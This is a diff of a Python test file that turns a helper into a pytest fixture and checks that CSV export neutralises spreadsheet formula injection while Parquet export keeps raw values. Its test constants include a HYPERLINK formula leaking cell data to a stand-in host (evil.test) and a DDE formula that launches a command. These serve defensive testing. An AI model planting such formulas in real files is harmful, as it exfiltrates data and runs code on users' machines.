@@ -140,8 +140,10 @@ HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Open") AB'
 FORMULA = "=cmd|' /C calc'!A0"
 
 
-def _hostile_warehouse(tmp_path: Path) -> Path:
-    path = create_raw(tmp_path / "warehouse.duckdb")
+@pytest.fixture(scope="module")
+def hostile_warehouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """Built from counterparty values that a spreadsheet would run (read-only)."""
+    path = create_raw(tmp_path_factory.mktemp("hostile") / "warehouse.duckdb")
     insert(path, "connections", [connection("ns", "c1", HYPERLINK, received=["t1"])])
     fields = [
         field("cmd", "Input", "Cmd", {"value": FORMULA}),
@@ -154,8 +156,10 @@ def _hostile_warehouse(tmp_path: Path) -> Path:
     return path
 
 
-def test_csv_neutralises_formula_triggers_and_parquet_keeps_values(tmp_path: Path) -> None:
-    path = _hostile_warehouse(tmp_path)
+def test_csv_neutralises_formula_triggers_and_parquet_keeps_values(
+    hostile_warehouse: Path, tmp_path: Path
+) -> None:
+    path = hostile_warehouse
     export_of(path, tmp_path / "csv", "csv")
     export_of(path, tmp_path / "parquet", "parquet")
     answers = pd.read_csv(tmp_path / "csv" / "answers.csv", keep_default_na=False)
@@ -169,8 +173,8 @@ def test_csv_neutralises_formula_triggers_and_parquet_keeps_values(tmp_path: Pat
     assert list(pd.read_parquet(tmp_path / "parquet" / "connections.parquet").name) == [HYPERLINK]
 
 
-def test_csv_raw_writes_values_as_received(tmp_path: Path) -> None:
-    path = _hostile_warehouse(tmp_path)
+def test_csv_raw_writes_values_as_received(hostile_warehouse: Path, tmp_path: Path) -> None:
+    path = hostile_warehouse
     export_of(path, tmp_path, "csv", csv_raw=True)
     answers = pd.read_csv(tmp_path / "answers.csv", keep_default_na=False)
     assert dict(zip(answers.field_id, answers.answer_text, strict=True))["cmd"] == FORMULA
